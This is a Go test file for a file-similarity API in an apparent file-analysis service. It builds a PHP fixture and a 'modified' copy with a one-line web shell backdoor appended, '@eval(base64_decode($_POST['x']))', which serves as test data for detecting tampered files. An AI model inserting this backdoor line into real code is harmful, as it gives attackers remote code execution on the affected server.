package api_test

import (
	"context"
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"dewar/cas"
	"dewar/gateway/web/apiclient"
	"dewar/test/fixtures"
)

// TestSimilar: a modified copy of a file is similar to it (with a method
// and score), an unrelated file is not; the limit holds; similar: terms in
// searches use the same answer; unknown files are 404s.
func TestSimilar(t *testing.T) {
	e := newEnv(t)
	e.analyzeAll = true
	ctx := context.Background()
	var b strings.Builder
	for i := range 200 {
		fmt.Fprintf(&b, "function handler_%d($request) {\n\t$value = apply_filters('option_%d', $request);\n\treturn esc_html($value . '%d');\n}\n", i, i*7, i*13)
	}
	original := "<?php\n" + b.String()
	modified := original + "\n@eval(base64_decode($_POST['x']));\n"
	var u strings.Builder
	for i := range 300 {
		fmt.Fprintf(&u, ".rule-%d { margin: %dpx; color: #%06x; }\n", i, i%40, i*7919)
	}
	tree := fixtures.Tree{
		{Path: "a", Type: "dir"},
		{Path: "a/original.php", Type: "file", Body: []byte(original)},
		{Path: "a/modified.php", Type: "file", Body: []byte(modified)},
		{Path: "a/unrelated.css", Type: "file", Body: []byte(u.String())},
	}
	e.ingest("similar.zip", false, tree, nil)
	orig, mod := cas.Sum([]byte(original)), cas.Sum([]byte(modified))

	sim, err := e.reader.Similar(ctx, orig.String(), 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(sim) == 0 || sim[0].SHA256 != mod.String() || sim[0].Method == "" || sim[0].Closeness <= 0 || sim[0].File == nil || sim[0].File.SHA256 != mod.String() {
		t.Fatalf("similar to the original: %+v", sim)
	}
	for _, s := range sim {
		if s.SHA256 == cas.Sum([]byte(u.String())).String() || s.SHA256 == orig.String() {
			t.Errorf("similar to the original: %+v", s)
		}
	}
	m := md5.Sum([]byte(original))
	if byMD5, err := e.reader.Similar(ctx, hex.EncodeToString(m[:]), 1); err != nil || len(byMD5) != 1 || byMD5[0].SHA256 != mod.String() {
		t.Errorf("similar by md5, limit 1: %+v, %v", byMD5, err)
	}

	p, err := e.reader.Search(ctx, apiclient.SearchOptions{Query: "similar:" + orig.String()})
	if err != nil || len(p.Files) != len(sim) || p.Files[0].SHA256 != sim[0].SHA256 && p.Files[len(p.Files)-1].SHA256 != sim[0].SHA256 {
		t.Errorf("search similar: %+v, %v (similar %d)", p.Files, err, len(sim))
	}
	p, err = e.reader.Search(ctx, apiclient.SearchOptions{Query: "similar:" + cas.Sum([]byte("never")).String()})
	if err != nil || len(p.Files) != 0 {
		t.Errorf("search similar to an unknown file: %+v, %v", p, err)
	}

	for _, c := range []struct {
		path, code string
		status     int
	}{
		{"/api/v1/files/" + cas.Sum([]byte("never")).String() + "/similar", "not_found", 404},
		{"/api/v1/files/zz/similar", "invalid", 400},
		{"/api/v1/files/" + orig.String() + "/similar?limit=0", "invalid", 400},
		{"/api/v1/files/" + orig.String() + "/similar?limit=5000", "invalid", 400},
	} {
		st, b := e.call("GET", c.path, readerKey, readerSecret, nil)
		if st != c.status || errorCode(t, b) != c.code {
			t.Errorf("%s: %d %s, want %d %s", c.path, st, b, c.status, c.code)
		}
	}
	if st, b := e.call("GET", "/api/v1/files/"+orig.String()+"/similar?limit=3", readerKey, readerSecret, nil); st != http.StatusOK || !strings.HasPrefix(string(b), `[{"sha256":"`+mod.String()) {
		t.Errorf("raw similar: %d %s", st, b)
	}
}
